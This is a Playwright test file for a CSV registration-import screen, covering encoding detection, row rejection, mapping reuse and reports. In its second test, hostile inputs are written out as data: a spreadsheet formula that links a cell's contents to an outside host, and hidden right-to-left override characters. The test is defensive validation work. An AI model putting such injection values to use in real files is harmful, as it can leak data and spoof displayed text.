import path from 'node:path';
import { expect, test } from '@playwright/test';
import { createFromTemplate } from './coordinator';
import { serveApp, type ServedApp } from './host';

const fixtures = path.resolve(import.meta.dirname, '../fixtures/intake');
let app: ServedApp | null = null;
test.afterEach(async () => {
  await app?.stop();
  app = null;
});

test.use({ locale: 'zh-CN' });

test('a coordinator imports a GBK registration CSV, fixes the mapping, reads the report and finds the entries', async ({ page }, info) => {
  app = await serveApp();
  await createFromTemplate(page, app.url);
  await page.getByRole('tab', { name: '导入报名' }).click();
  await page.getByTestId('import-file').setInputFiles(path.join(fixtures, 'sichuan-registrations.gbk.csv'));

  await expect(page.getByTestId('import-summary')).toHaveText('文件共 11 行；其中 5 行将被拒收。');
  await expect(page.getByLabel('文字编码')).toContainText('自动识别（识别为 gb18030）');
  const preview = page.getByTestId('import-preview');
  await expect(preview.locator('tr', { hasText: 'SC-0006' })).toContainText('联系电话“12345”不是有效的电话号码');
  await expect(preview.locator('td.cell-error', { hasText: '12345' })).toBeVisible();
  await page.screenshot({ path: info.outputPath('import-preview-zh.png'), fullPage: true });

  // Unmapping the e-mail column removes that row's e-mail problem, but not the others.
  await page.locator('select[data-target="field.email"]').selectOption('');
  await expect(preview.locator('tr', { hasText: 'SC-0006' })).not.toContainText('电子邮箱');
  await expect(page.getByTestId('import-summary')).toHaveText('文件共 11 行；其中 5 行将被拒收。');

  await page.getByTestId('import-run').click();
  const report = page.getByTestId('import-report');
  await expect(report.getByTestId('report-added')).toHaveText('6');
  await expect(report.getByTestId('report-rejected')).toHaveText('5');
  await expect(report.getByTestId('report-late')).toHaveText('1');
  await expect(page.getByTestId('rejected-rows')).toContainText('申报类型“讲座”不是可识别的申报类型');
  await page.screenshot({ path: info.outputPath('import-report-zh.png'), fullPage: true });

  await page.getByRole('tab', { name: '报名条目' }).click();
  await expect(page.getByTestId('entry-count')).toHaveText('共 6 条');
  await page.getByLabel('仅看逾期').check();
  await expect(page.getByTestId('entry-count')).toHaveText('共 1 条');
  await expect(page.getByTestId('entry-row').first()).toContainText('SC-0005');

  // The same form again: the mapping is remembered, nothing is duplicated.
  await page.getByRole('tab', { name: '导入报名' }).click();
  await page.getByTestId('import-file').setInputFiles(path.join(fixtures, 'sichuan-registrations.utf8-bom.csv'));
  await expect(page.getByText('已沿用上次导入同一表单时的对应关系。')).toBeVisible();
  await page.getByTestId('language-switch').selectOption('en');
  await page.getByTestId('import-run').click();
  await expect(page.getByTestId('import-report').getByTestId('report-unchanged')).toHaveText('6');
  await expect(page.getByTestId('rejected-rows')).toContainText('Application type “讲座” is not a known entry type');
});

test('a hostile registration file: unsafe registration numbers refused by row, hidden text-direction characters flagged and shown', async ({ page }, info) => {
  app = await serveApp();
  await createFromTemplate(page, app.url);
  await page.getByRole('tab', { name: '导入报名' }).click();
  const csv = [
    '报名编号,申报类型,作品类别,作品名称,作者,联系电话,推荐理由,提交时间',
    'SC-0001,作品,视频,七步\u202E法手洗,李晓雯,13800138000,原创,2023-12-10 09:30',
    '"=HYPERLINK(""http://x.cn/?""&B2,""点我"")",作品,视频,公式编号,李晓雯,13800138000,原创,2023-12-10 09:30',
    'SC-0003\u202E1000,作品,视频,反转编号,李晓雯,13800138000,原创,2023-12-10 09:30',
  ].join('\r\n');
  await page.getByTestId('import-file').setInputFiles({ name: 'hostile.csv', mimeType: 'text/csv', buffer: Buffer.from(`\ufeff${csv}\r\n`) });

  await expect(page.getByTestId('import-summary')).toHaveText('文件共 3 行；其中 2 行将被拒收。');
  const preview = page.getByTestId('import-preview');
  const flagged = preview.locator('tr', { hasText: 'SC-0001' });
  await expect(flagged).toContainText('作品名称含有不可见的文字方向控制字符');
  await expect(flagged.locator('td.cell-warning')).toHaveText('七步[U+202E]法手洗');
  await expect(preview.locator('tr', { hasText: '公式编号' })).toContainText('只能包含拉丁字母或汉字（含日文假名、韩文）、数字 0–9 和 - _ / .');
  await expect(preview.locator('tr', { hasText: '反转编号' })).toContainText('SC-0003[U+202E]1000');
  await page.screenshot({ path: info.outputPath('import-hostile-preview-zh.png'), fullPage: true });

  await page.getByTestId('language-switch').selectOption('en');
  await page.getByTestId('import-run').click();
  const report = page.getByTestId('import-report');
  await expect(report.getByTestId('report-added')).toHaveText('1');
  await expect(report.getByTestId('report-rejected')).toHaveText('2');
  await expect(report.getByTestId('report-flagged')).toHaveText('1');
  await expect(page.getByTestId('rejected-rows')).toContainText('may contain only Latin or Chinese/Japanese/Korean letters, the digits 0–9 and - _ / .');
  await expect(page.getByTestId('flagged-rows')).toContainText('Title contains invisible text-direction characters');
  await expect(page.getByTestId('flagged-rows')).toContainText('七步[U+202E]法手洗');
  await page.screenshot({ path: info.outputPath('import-hostile-report-en.png'), fullPage: true });
});
